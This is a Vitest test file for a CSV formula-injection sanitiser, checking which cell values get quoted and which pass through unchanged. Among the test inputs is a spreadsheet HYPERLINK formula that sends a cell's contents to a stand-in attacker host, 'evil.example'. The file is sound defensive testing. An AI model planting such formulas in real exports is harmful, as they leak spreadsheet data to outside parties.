import { describe, expect, it } from "vitest";
import { neutraliseFormula } from "./csv-safe.ts";

describe("neutraliseFormula", () => {
  it("quotes a cell a spreadsheet would run as a formula", () => {
    for (const value of [
      '=HYPERLINK("http://evil.example/?d="&A1,"Clic")',
      "=1+1",
      "+1+1",
      "-2+3",
      "@SUM(A1:A2)",
      "\t=1+1",
      "\r=1+1",
      "+221 77=cmd",
      "-",
      "+",
      "+221 77 380 00 01 / =1+1",
      "+221773800001, -1+1",
    ]) {
      expect(neutraliseFormula(value)).toBe(`'${value}`);
    }
  });

  it("leaves ordinary text, phone numbers and signed numbers as they are", () => {
    for (const value of [
      "Diop",
      "",
      "+221 77 123 45 67",
      "+221771234567",
      "-12.5",
      "+33 (0)6 12 34 56 78",
      "a=1",
      "+221 77 380 00 01 / +221 76 380 00 02",
      "+221773800001, +221763800002",
    ]) {
      expect(neutraliseFormula(value)).toBe(value);
    }
  });
});
